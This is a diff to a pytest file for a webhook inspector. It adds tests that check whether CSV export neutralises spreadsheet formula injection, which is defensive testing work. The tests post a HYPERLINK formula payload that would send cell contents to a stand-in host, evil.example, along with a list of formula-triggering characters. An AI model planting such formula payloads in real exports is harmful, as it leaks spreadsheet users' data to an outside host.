@@ -8,6 +8,7 @@ import subprocess
 import tarfile
 import time
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 import requests
@@ -29,7 +30,9 @@ def irx():
 
 
 def api(rx, path, **kwargs):
-    return requests.request(kwargs.pop("method", "GET"), rx.base_url + path, timeout=10, **kwargs)
+    """A request as the inspector page makes it: changes carry the X-Webhooklab header."""
+    headers = {"X-Webhooklab": "1", **kwargs.pop("headers", {})}
+    return requests.request(kwargs.pop("method", "GET"), rx.base_url + path, timeout=10, headers=headers, **kwargs)
 
 
 def test_the_page_and_its_files_are_local_with_a_strict_policy(irx):
@@ -140,6 +143,36 @@ def test_exports(irx, har_schema):
     exported = api(irx, "/api/export.json", params={"provider": "stripe"}).json()
     assert len(exported) == 1 and exported[0]["json"]["type"] == "charge.succeeded"
     assert "attachment" in api(irx, "/api/export.har").headers["Content-Disposition"]
+
+
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
+
+
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client):
+    """Anyone can name the endpoint, the body and the headers: none of it may become a formula."""
+    for start in FORMULA_STARTS:
+        headers = {"X-GitHub-Event": f"{start}push", "X-GitHub-Delivery": f"{start}id"} if start != "\r" else {}
+        client.post(f"/hooks/{quote(start)}pay", data=f'{start}HYPERLINK("http://evil.example/?"&A1)'.encode(),
+                    headers=headers)  # fmt: skip
+    client.post("/hooks/orders", data=b'{"total": -1}', headers={"X-GitHub-Event": "push", "X-GitHub-Delivery": "d-1"})
+    rows = list(csv.DictReader(io.StringIO(client.get("/api/export.csv").get_data(as_text=True), newline="")))
+    assert len(rows) == len(FORMULA_STARTS) + 1
+    for start, row in zip(FORMULA_STARTS, rows):
+        assert row["endpoint"] == f"'{start}pay"
+        if start != "\r":  # no header value can hold a carriage return
+            assert (row["event_type"], row["delivery_id"]) == (f"'{start}push", f"'{start}id")
+        if start.strip():  # the preview folds leading whitespace away
+            assert row["preview"] == f"'{start}HYPERLINK(\"http://evil.example/?\"&A1)"
+        assert row["id"].isdigit() and row["status"] == "200" and row["size"].isdigit()
+    ordinary = rows[-1]
+    assert (ordinary["endpoint"], ordinary["event_type"], ordinary["delivery_id"]) == ("orders", "push", "d-1")
+    assert ordinary["preview"] == '{"total": -1}' and ordinary["provider"] == "github" and ordinary["size"] == "13"
+
+
+def test_csv_export_leaves_numbers_as_numbers():
+    from webhooklab.inspector.export import _cell
+
+    assert _cell(-1) == -1 and _cell(-0.5) == -0.5 and _cell(None) is None and _cell("-1") == "'-1"
 
 
 def test_rx_inspector_links_and_embeds(irx):
